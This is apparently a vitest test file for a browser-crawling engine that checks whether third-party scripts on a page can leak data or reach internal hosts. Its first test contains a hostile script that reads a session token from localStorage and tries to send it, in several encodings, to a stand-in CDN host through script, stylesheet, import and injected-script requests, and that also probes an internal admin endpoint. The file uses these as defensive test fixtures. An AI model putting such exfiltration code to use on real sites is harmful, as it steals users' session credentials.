import { afterEach, describe, expect, it } from 'vitest';
import { importsOf } from '../../../src/engine/browser/visit/foreign-urls.ts';
import { Budget, budgetOf } from '../../../src/engine/core/budget.ts';
import { ForeignClient } from '../../../src/engine/transport/foreign-client.ts';
import { evidenceStore } from '../../helpers/browser-evidence.ts';
import { chromiumPath } from '../../helpers/chromium.ts';
import { type Served, type Site, serve } from '../../targets/serve.ts';

const TOKEN = 'Qx7-session-token-of-the-user-4711';
const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

async function host(address: string, site: Site): Promise<{ served: Served; origin: string }> {
  const served = await serve(site, undefined, address);
  closers.push(served.close);
  return { served, origin: `http://${address}:${served.port}` };
}

const typeOf = (path: string) =>
  path.endsWith('.css') ? 'text/css' : /\.m?js$/.test(path) ? 'text/javascript' : 'text/html';

/** A site from a table of paths; everything else is an empty script, so that a request that arrives is also used. */
function siteOf(pages: () => Readonly<Record<string, string>>): Site {
  return ({ path }) => ({
    headers: [
      ['Content-Type', path in pages() ? typeOf(path) : 'text/javascript'],
      ['Access-Control-Allow-Origin', '*'],
    ],
    body: pages()[path] ?? '',
  });
}

async function explore(origin: string, storage?: Readonly<Record<string, string>>) {
  const opened = await evidenceStore(origin, {
    browserPath: chromiumPath,
    options: { third_parties: 'load' },
    ...(storage === undefined ? {} : { storage: { localStorage: { ...storage }, sessionStorage: {} } }),
  });
  closers.push(opened.close);
  const browser = await opened.store.gather('browser');
  if (browser.state !== 'available') throw new Error(browser.reason);
  return browser.value;
}

describe.skipIf(chromiumPath === null)('third parties of a page', () => {
  it('get nothing that the user has, and choose no host', async () => {
    const internal = await host('127.0.0.3', () => ({ body: 'admin' }));
    const evil = () => `
      import "${internal.origin}/imported.js";
      import "${cdn.origin}/long.js?q=${'x'.repeat(300)}";`;
    const steal = () => `
      const token = localStorage.getItem('token') ?? 'none';
      const forms = [token, btoa(token), [...token].reverse().join(''), encodeURIComponent(btoa(token)), token.slice(0, 9),
        [...token].map((one) => one.charCodeAt(0).toString(16)).join('')];
      for (let at = 0; at < token.length; at += 3) forms.push(at + token.slice(at, at + 3));
      const add = (tag, values) => document.head.append(Object.assign(document.createElement(tag), values));
      for (const form of forms) {
        add('script', { src: '${cdn.origin}/path/' + form + '.js' });
        add('script', { src: '${cdn.origin}/lib.js?' + form });
        add('link', { rel: 'stylesheet', href: '${cdn.origin}/sheet/' + form + '.css' });
        add('style', { textContent: '@import url("${cdn.origin}/imported/' + form + '.css"); body { background: url(${cdn.origin}/image/' + form + ') }' });
        import('${cdn.origin}/module/' + form + '.js').catch(() => 0);
        fetch('/search?q=' + encodeURIComponent('<script src="${cdn.origin}/echo/' + form + '.js"></script>'));
      }
      add('script', { src: '${internal.origin}/internal-admin?do=1' });
      import('${internal.origin}/internal-module').catch(() => 0);
      fetch('/saw?token=' + btoa(token));`;
    const cdn = await host(
      '127.0.0.2',
      siteOf(() => ({ '/lib.js': steal(), '/evil.mjs': evil(), '/long.js': '' })),
    );
    const target = await host('127.0.0.1', ({ path, query }) => ({
      headers: [['Content-Type', 'text/html']],
      body:
        path === '/'
          ? `<h1>Shop</h1><script src="${cdn.origin}/lib.js"></script><script type=module src="${cdn.origin}/evil.mjs"></script>`
          : `<p>nothing for ${query.get('q') ?? ''}`,
    }));
    const { limits } = await explore(target.origin, { token: TOKEN });
    // The script ran and saw the token: only its ways out are closed.
    expect(target.served.log.map(({ path }) => path)).toContain(`/saw?token=${btoa(TOKEN)}`);
    expect(cdn.served.log.map(({ path }) => path).sort()).toEqual(['/evil.mjs', '/lib.js']);
    expect(internal.served.log).toEqual([]);
    const blocked = limits.find(({ kind }) => kind === 'scripts_not_loaded');
    expect(blocked?.detail).toContain(new URL(internal.origin).host);
  }, 180_000);

  it('work as in the browser of a visitor where the target names what it loads', async () => {
    const cdn = await host(
      '127.0.0.2',
      siteOf(() => ({
        '/lib.js': 'window.$ = { plugins: [] };',
        '/plugin.js': '$.plugins.push("plugin");',
        '/app.mjs': 'import { name } from "./dep.mjs"; $.plugins.push(name); setTimeout(() => $.done(), 100);',
        '/dep.mjs': 'export const name = "dep";',
        '/late.js': '$.plugins.push("late");',
        '/theme.css': '@import url("base.css");',
        '/base.css': 'body { color: red }',
      })),
    );
    const names = ['lib.js', 'plugin.js'].map((name) => `<script src="${cdn.origin}/${name}"></script>`).join('');
    const target = await host(
      '127.0.0.1',
      siteOf(() => ({
        '/': `<link rel=stylesheet href="${cdn.origin}/theme.css">${names}<script src=/own.js></script><script type=module src="${cdn.origin}/app.mjs"></script>`,
        '/own.js': `const late = document.createElement('script'); late.src = "${cdn.origin}/late.js"; document.head.append(late);
          $.done = () => history.pushState({}, '', '/' + [...$.plugins].sort().join('-'));`,
      })),
    );
    for (const storage of [undefined, { token: TOKEN }]) {
      const { routes, limits } = await explore(target.origin, storage);
      expect(routes).toContain(`${target.origin}/dep-late-plugin`);
      expect(limits).toEqual([]);
    }
    const paths = cdn.served.log.map(({ path }) => path).sort();
    const once = ['/app.mjs', '/base.css', '/dep.mjs', '/late.js', '/lib.js', '/plugin.js', '/theme.css'];
    expect(paths).toEqual([...once, ...once].sort());
  }, 180_000);
});

describe('addresses of third parties', () => {
  it.each([
    ['a public one', '93.184.216.34'],
    ['a private one', '10.1.2.3'],
  ])('are never more private than that of the target: %s', async (_name, targetAddress) => {
    const { served, origin } = await host('127.0.0.1', () => ({ body: 'var secret' }));
    const client = new ForeignClient({
      budget: new Budget(budgetOf('standard')),
      signal: AbortSignal.timeout(60_000),
      addressPolicy: { mode: 'any', allow: ['127.0.0.0/8'] },
      resolver: undefined,
      targetAddress,
    });
    for (const url of [`${origin}/a.js`, `http://localhost:${served.port}/a.js`])
      expect(await client.fetch(url)).toMatchObject({ failure: { code: 'blocked' } });
    await client.close();
    expect(served.log).toEqual([]);
  });
});

describe('imports of a third party', () => {
  const ORIGINS = new Set(['https://cdn.example']);
  it.each<['script' | 'style', string, string[]]>([
    ['script', 'import{a as b}from"./x.js";export*from"/y.mjs"', ['/x.js', '/y.mjs']],
    ['script', 'import "https://cdn.example/z.js?v=1"; import("./lazy.js")', ['/z.js?v=1', '/lazy.js']],
    ['script', 'import("/made/" + name)', []],
    ['script', 'import "react"; import "https://other.example/a.js"', []],
    ['script', `import "/long.js?${'q'.repeat(201)}"`, []],
    ['style', '@import url("base.css"); @import "/more.css" screen;', ['/base.css', '/more.css']],
  ])('stay on the hosts that the target names: %s %s', (kind, text, paths) => {
    const found = importsOf(text, kind, 'https://cdn.example/lib.js', ORIGINS);
    expect(found).toEqual(paths.map((path) => `https://cdn.example${path}`));
  });
});
